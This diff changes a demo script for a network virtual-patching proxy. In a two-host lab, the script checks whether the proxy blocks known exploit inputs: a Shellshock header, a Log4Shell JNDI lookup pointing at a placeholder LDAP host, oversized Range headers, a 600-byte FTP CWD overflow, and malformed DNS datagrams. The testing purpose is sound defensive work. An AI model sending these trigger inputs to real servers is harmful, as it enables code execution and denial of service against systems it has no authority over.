@@ -2,6 +2,7 @@
 """`make demo`: real clients and real servers, direct and through wirepatch, and what each server received."""
 
 import argparse
+import glob
 import os
 import re
 import subprocess
@@ -11,6 +12,9 @@ import time
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 import lab as wires  # noqa: E402
 from lab import DIRECT_SERVER, ROOT, SERVER, Lab, NotHere  # noqa: E402
+
+# What the table says instead of a patch where none is to change anything.
+ORDINARY = "(ordinary)"
 
 LOG_FORMAT = "$host|$request|$http_user_agent|$http_x_api_version|$http_range|$http_cookie"
 
@@ -74,11 +78,6 @@ def dnsmasq(lab):
                                  check=False).stdout)
 
 
-def curl(lab, server, *words):
-    return lab.run("client", ["curl", "-s", "-S", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}", *words,
-                              f"http://{server}/file.bin"], check=False).stdout
-
-
 def last_line(lab, name, wanted):
     """The last line of a server's log that holds `wanted`, once it is there; "" when the server never saw it."""
     try:
@@ -86,13 +85,6 @@ def last_line(lab, name, wanted):
             (line for line in reversed(lab.read(name).splitlines()) if wanted in line), None), 2)
     except (RuntimeError, FileNotFoundError):
         return ""
-
-
-class Row:
-    """One request, sent both ways; what the server received of it."""
-
-    def __init__(self, patch, what, send, received, show):
-        self.patch, self.what, self.send, self.received, self.show = patch, what, send, received, show
 
 
 def shorten(text, width=34):
@@ -143,37 +135,62 @@ for line in ('USER anonymous', 'PASS demo@', {command!r}, 'QUIT'):
     return patch, what, go
 
 
-def dns_row(patch, what, words, wanted, pick):
+# Prints, in hexadecimal, the UDP payload for port 53 that comes next to this host, or nothing after two seconds.
+NEXT_DATAGRAM = """
+import socket, time
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
+print("listening", flush=True)
+end = time.monotonic() + 2
+while (left := end - time.monotonic()) > 0:
+    s.settimeout(left)
+    try: frame, origin = s.recvfrom(2048)
+    except TimeoutError: break
+    ip = frame[14:]
+    udp = ip[(ip[0] & 15) * 4:]
+    if origin[2] != socket.PACKET_OUTGOING and frame[12:14] == b"\\x08\\0" and ip[9] == 17 and udp[2:4] == b"\\0\\x35":
+        print(udp[8:int.from_bytes(udp[4:6], "big")].hex()); break
+"""
+
+
+def dns_row(patch, what, message):
+    """One datagram; its length and records as the server's interface received them (no DNS server logs as much)."""
     def go(lab, server):
-        before = len(lab.read("dnsmasq-queries.log")) if os.path.exists(lab.path("dnsmasq-queries.log")) else 0
-        done = lab.run("client", ["dig", "+tries=1", "+time=2", f"@{server}", *words], check=False)
-        time.sleep(0.2)
-        new = lab.read("dnsmasq-queries.log")[before:]
-        return pick(done.stdout, new)
+        seen = lab.start("server", [sys.executable, "-c", NEXT_DATAGRAM], log="datagram.log")
+        wires.wait_for("the listener", lambda: "listening" in lab.read("datagram.log"))
+        lab.run("client", [sys.executable, "-c", f"""
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(bytes.fromhex({message.hex()!r}), ({server!r}, 53))
+"""])
+        seen.wait()
+        received = bytes.fromhex("".join(lab.read("datagram.log").splitlines()[1:]))
+        if not received:
+            return "(nothing)"
+        records = int.from_bytes(received[10:12], "big")
+        return f"{len(received)} bytes, {records} additional" if len(received) >= 12 else f"{len(received)} bytes"
 
     return patch, what, go
 
 
-def dns_seen(answer, log):
-    names = re.findall(r"query\[(\S+)\] (\S+)", log)
-    return f"{names[-1][0]} {names[-1][1]}" if names else "(nothing)"
+def query(name, *, options=None):
+    """A query of type A, with an OPT record that holds `options` (RFC 6891 section 6.1.2)."""
+    header = b"\x12\x34\x01\x00\0\x01\0\0\0\0" + (b"\0\0" if options is None else b"\0\x01")
+    opt = b"" if options is None else b"\0\0\x29\x10\0\0\0\0\0" + len(options).to_bytes(2, "big") + options
+    return header + name + b"\0\x01\0\x01" + opt
 
 
-def edns_seen(answer, log):
-    received = dns_seen(answer, log)
-    return received + (" with EDNS" if "EDNS: version" in answer else " without EDNS")
-
+NAME = b"\x04shop\x07example\0"
 
 ROWS = [
     http_row("cve-2014-6271", "User-Agent: () { :; }; …", ["User-Agent: () { :; }; echo demo"], 2),
     http_row("cve-2021-44228", "X-Api-Version: ${jndi:…}", ["X-Api-Version: ${jndi:ldap://demo.invalid/a}"], 3),
     http_row("cve-2011-3192", "Range of 300 parts", ["Range: bytes=" + ",".join(f"{n}-{n}" for n in range(300))], 4),
     http_row("ms15-034", "Range to 2^64-1", ["Range: bytes=0-18446744073709551615"], 4),
-    http_row("(ordinary)", "an ordinary request", ["User-Agent: demo/1.0", "Range: bytes=0-99"], 2),
-    ftp_row("FTP", "CWD of 600 bytes", "CWD /" + "A" * 600),
-    ftp_row("(ordinary)", "CWD pub", "CWD pub"),
-    dns_row("cve-2017-14496", "TXT query with EDNS", ["TXT", "shop.example"], "shop.example", edns_seen),
-    dns_row("(ordinary)", "A query, no EDNS", ["+noedns", "A", "shop.example"], "shop.example", dns_seen),
+    http_row(ORDINARY, "an ordinary request", ["User-Agent: demo/1.0", "Range: bytes=0-99"], 2),
+    ftp_row("cve-2010-4221", "CWD of 600 bytes", "CWD /" + "A" * 600),
+    ftp_row(ORDINARY, "CWD pub", "CWD pub"),
+    dns_row("cve-2017-14496", "EDNS option past its end", query(NAME, options=b"\0\x0a\x00\xffcookie")),
+    dns_row("rustsec-2018-0007", "name that points forward", query(b"\xc0\x0e\0")),
+    dns_row(ORDINARY, "query with EDNS cookie", query(NAME, options=b"\0\x0a\x00\x0812345678")),
 ]
 
 
@@ -186,8 +203,9 @@ def table(rows):
 
 
 def demo(arguments):
+    named = [patch for patch, _, _ in ROWS if patch != ORDINARY]
     groups = [{"name": "demo", "addresses": [SERVER + "/32", wires.SERVER6 + "/128"],
-               "patches": [os.path.join(ROOT, "patches", protocol) for protocol in ("http", "ftp", "dns")]}]
+               "patches": [file for patch in named for file in glob.glob(os.path.join(ROOT, "patches", "*", patch + ".yaml"))]}]
     failed = []
     with Lab(arguments.driver, arguments.layout) as lab:
         print(f"two hosts, joined by a direct wire and by wirepatch ({arguments.driver}, {arguments.layout})")
@@ -198,7 +216,7 @@ def demo(arguments):
         for patch, what, go in ROWS:
             direct, through = go(lab, DIRECT_SERVER), go(lab, SERVER)
             shown.append((patch, what, shorten(direct), shorten(through)))
-            ordinary = patch == "(ordinary)"
+            ordinary = patch == ORDINARY
             if (direct == through) != ordinary or direct == "(nothing)":
                 failed.append(f"{what}: direct {shorten(direct)!r}, through wirepatch {shorten(through)!r}")
         table(shown)
@@ -212,12 +230,15 @@ def demo(arguments):
             print(f"  {name:5} {got.stdout.strip() or got.stderr.strip()}")
             if got.returncode != 0 or not got.stdout.strip():
                 failed.append(f"{name}: {got.stderr.strip() or got.stdout.strip()}")
-        print("\nfrom /metrics: patch, edits, bytes removed")
-        metrics = lab.metrics()
-        for patch, edits in re.findall(r'^wirepatch_patch_edits_total\{.*?patch="([^"]+)".*?\} ([1-9]\d*)', metrics, re.M):
-            removed = re.search(
-                r'^wirepatch_patch_removed_bytes_total\{.*?patch="%s".*?\} (\d+)' % re.escape(patch), metrics, re.M)
-            print(f"  {patch:18} {edits:>6} {removed.group(1) if removed else '-':>8}")
+        print("\nfrom /metrics:")
+        counters = ("messages", "edits", "verdicts", "removed_bytes")
+        counted = [("patch", *counters)]
+        for patch in named:
+            of = [int(lab.metric(f"wirepatch_patch_{counter}_total", patch=patch)) for counter in counters]
+            counted.append((patch, *map(str, of)))
+            if not of[1] + of[2]:
+                failed.append(f"{patch} has done nothing")
+        table(counted)
         code = lab.stop_box()
         if code != 0:
             failed.append(f"wirepatch run ended with {code}:\n{lab.read('wirepatch.log')[-2000:]}")
